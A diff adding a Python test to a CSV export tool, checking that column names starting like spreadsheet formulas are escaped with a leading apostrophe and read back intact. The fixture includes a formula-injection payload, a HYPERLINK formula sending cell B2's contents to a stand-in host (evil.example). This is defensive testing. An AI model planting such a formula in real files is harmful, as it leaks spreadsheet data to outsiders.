@@ -602,6 +602,27 @@ class TestCsvPassThrough:
         assert first["n"] == "-1.5"
         assert (second["input"], second["sku"], second["n"]) == ("'@SUM(1)", "'+SUM(1)", "+2")
 
+    def test_a_column_name_starting_like_a_formula_is_written_as_text(self, tmp_path: Path) -> None:
+        """A pass-through column whose name starts like a formula (a third party's job)
+        gets a leading ' in the header as a cell does, and a resumed output reads it back
+        as its own name (the header was written as it came)."""
+        formula = '=HYPERLINK("http://evil.example/?x="&B2,"click")'
+        rows = [JobRow(1, asin(0), asin(0), extra={formula: "a", "@SUM(1)": "b", "'q": "c"})]
+        out = tmp_path / "out.csv"
+        ledger = Ledger.open(
+            tmp_path / "f.ledger", fingerprint=FP, default_marketplace=US, synchronous="NORMAL"
+        )
+        with ledger:
+            ledger.ingest(rows)
+            ledger.record_results([(lk, result(lk)) for lk in ledger.pending_lookups()])
+            emit_closed(ledger, CsvSink(out))
+            header = next(csv.reader(io.StringIO(out.read_bytes().decode(), newline="")))
+            assert header[len(CSV_COLUMNS) :] == ["'" + formula, "'@SUM(1)", "''q"]
+            assert CsvSink._read_extra(header) == (formula, "@SUM(1)", "'q")
+            whole = out.read_bytes()
+            emit_closed(ledger, CsvSink(out))
+        assert out.read_bytes() == whole
+
     @pytest.mark.parametrize(
         ("name", "column"),
         [
